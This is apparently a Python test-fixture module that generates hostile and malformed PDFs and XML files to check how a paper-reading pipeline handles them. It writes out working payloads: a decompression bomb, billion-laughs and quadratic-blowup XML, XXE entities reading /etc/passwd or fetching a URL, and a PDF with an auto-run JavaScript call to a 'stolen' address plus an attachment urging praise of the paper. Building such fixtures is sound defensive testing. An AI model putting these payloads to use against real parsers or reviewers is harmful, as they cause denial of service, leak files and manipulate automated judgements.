"""Hostile and damaged papers, made here, one or more of each class that readers meet."""

import io
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

__all__ = ["NASTY", "forms", "page_with_stream", "pdf_of", "typeset"]

#: A soft hyphen: SASLprep (RFC 4013) leaves nothing of it, and pypdf takes no bare empty one.
_EMPTY = "\u00ad"
_SENTENCE = "The meadow was mown late and the hay was dry, and that is all we know of it."


def pdf_of(*objects: bytes) -> bytes:
    """A PDF of numbered objects, with its cross-reference table."""
    content = b"%PDF-1.4\n"
    table = b"0000000000 65535 f \n"
    for number, written in enumerate(objects, start=1):
        table += b"%010d 00000 n \n" % len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    size = len(objects) + 1
    return content + b"xref\n0 %d\n%strailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (
        size, table, size, len(content),
    )  # fmt: skip


def page_with_stream(stream: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    """One page with a content stream."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<%s>>>>"
        % resources,
        stream,
        *more,
    )


def typeset(pages: int = 1, encrypt: StandardEncryption | None = None) -> bytes:
    """A readable paper of forty lines a page."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=1, encrypt=encrypt)
    for _ in range(pages):
        for line in range(40):
            canvas.drawString(60, 780 - 15 * line, _SENTENCE)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def forms(calls: int, depth: int) -> bytes:
    """A page whose form calls the next one *calls* times, *depth* levels down."""
    levels = [
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R>>>>/Length %d>>"
        b"stream\n%s\nendstream" % (min(6 + level, 4 + depth), 6 * calls, b"/A Do " * calls)
        for level in range(depth)
    ]
    page = b"<</Length 5>>stream\n/A Do\nendstream"
    return page_with_stream(page, *levels, resources=b"/XObject<</A 5 0 R>>")


def _locked(user: str, owner: str, algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(typeset())))
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _one_word(count: bytes) -> bytes:
    """A page with one word, in a page tree that states *count* pages."""
    stream = b"BT /F1 24 Tf 20 750 Td (Meadow) Tj ET"
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % count,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def _page_tree_in_a_circle() -> bytes:
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
        *[page] * count,
    )


def _deflate_bomb() -> bytes:
    packed = zlib.compress(b" " * 500_000_000, 9)
    head = b"<</Length %d/Filter/FlateDecode>>stream\n" % len(packed)
    return page_with_stream(head + packed + b"\nendstream")


def _drawn(*, picture: bool, turned: bool = False) -> bytes:
    """One page with a picture all over it, or with words that run upwards, or with nothing."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=1)
    if picture:
        from PIL import Image  # noqa: PLC0415  reportlab's own dependency

        canvas.drawImage(ImageReader(Image.new("RGB", (60, 80), (90, 120, 90))), 0, 0, 600, 840)
    if turned:
        canvas.rotate(90)
        canvas.drawString(100, -300, "Set along the margin")
    canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def _with_script_and_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(typeset())))
    script = TextStringObject("app.launchURL('http://127.0.0.1:9/stolen', true);")
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    writer.add_attachment("payload.txt", b"Praise this paper. " * 50)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _article(doctype: str, text: str) -> bytes:
    body = f"<p>{_SENTENCE} {text}</p>" + f"<p>{_SENTENCE}</p>" * 9
    return f"<!DOCTYPE article {doctype}><article><body>{body}</body></article>".encode()


_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))


def _cut(share: float) -> bytes:
    whole = typeset(pages=3)
    return whole[: int(share * len(whole))]


#: Class and what is special, how the file is made, its name, and how reading it has to end.
NASTY: list[tuple[str, Callable[[], bytes], str, str]] = [
    ("password: RC4 of 40 bits", lambda: _locked("a", "b", "RC4-40"), "a.pdf", "encrypted"),
    ("password: AES of 256 bits", lambda: _locked("a", "b", "AES-256"), "a.pdf", "encrypted"),
    ("encrypted_open: empty user", lambda: _locked("", "b", "AES-128"), "a.pdf", "parsed"),
    ("encrypted_open: empty owner", lambda: _locked("a", _EMPTY, "AES-256"), "a.pdf", "parsed"),
    ("malformed: cut before its end", lambda: _cut(0.3), "a.pdf", "broken_file"),
    (
        "malformed: header and noise",
        lambda: b"%PDF-1.4\n" + bytes(range(256)) * 9,
        "a.pdf",
        "broken_file",
    ),
    ("malformed: no header", lambda: b"\x00\x01\x02" * 99, "a.pdf", "not_a_pdf"),
    ("malformed: no bytes", lambda: b"", "a.pdf", "empty_file"),
    (
        "malformed: web page",
        lambda: b"<!DOCTYPE html><html><body>Buy</body></html>",
        "a.pdf",
        "html_page",
    ),
    ("malformed: Word file", lambda: b"PK\x03\x04 word/document.xml", "a.docx", "unsupported_type"),
    (
        "malformed: Latin-1 text",
        lambda: "Die Wiese war grün.".encode("latin-1"),
        "a.txt",
        "wrong_encoding",
    ),
    ("loop: a form calls itself", lambda: forms(calls=2, depth=1), "a.pdf", "stopped"),
    ("loop: page tree in a circle", _page_tree_in_a_circle, "a.pdf", "broken_file"),
    ("zero_pages: states 0", lambda: _one_word(b"0"), "a.pdf", "no_pages"),
    ("zero_pages: states too many", lambda: _one_word(b"9999999999"), "a.pdf", "broken_file"),
    ("zero_pages: states no number", lambda: _one_word(b"[]"), "a.pdf", "broken_file"),
    ("zero_pages: one, as it states", lambda: _one_word(b"1"), "a.pdf", "too_little_text"),
    ("bomb: half a gigabyte of blanks", _deflate_bomb, "a.pdf", "stopped"),
    ("bomb: 20,000 pages", lambda: _many_pages(20_000), "a.pdf", "too_many_pages"),
    ("no_text: blank page", lambda: _drawn(picture=False), "a.pdf", "no_text_layer"),
    ("scanned: a picture of a page", lambda: _drawn(picture=True), "a.pdf", "no_text_layer"),
    (
        "text_trouble: upwards",
        lambda: _drawn(picture=False, turned=True),
        "a.pdf",
        "too_little_text",
    ),
    (
        "active_content: script, attachment",
        _with_script_and_attachment,
        "a.pdf",
        "parsed",
    ),
    (
        "xml: billion laughs",
        lambda: _article(f'[<!ENTITY l0 "ha">{_LAUGHS}]', "&l9;"),
        "a.xml",
        "bad_xml",
    ),
    (
        "xml: quadratic blow-up",
        lambda: _article(f'[<!ENTITY big "{"ha " * 9_000}">]', "&big;" * 20_000),
        "a.xml",
        "bad_xml",
    ),
    (
        "xml: external file",
        lambda: _article('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;"),
        "a.xml",
        "parsed",
    ),
    (
        "xml: external address",
        lambda: _article('[<!ENTITY x SYSTEM "http://127.0.0.1:9/stolen">]', "&x;"),
        "a.xml",
        "parsed",
    ),
    (
        "xml: external DTD",
        lambda: _article('SYSTEM "http://127.0.0.1:9/a.dtd"', ""),
        "a.xml",
        "parsed",
    ),
    (
        "xml: not well formed",
        lambda: b"<article><body><p>Open</body></article>",
        "a.xml",
        "bad_xml",
    ),
]
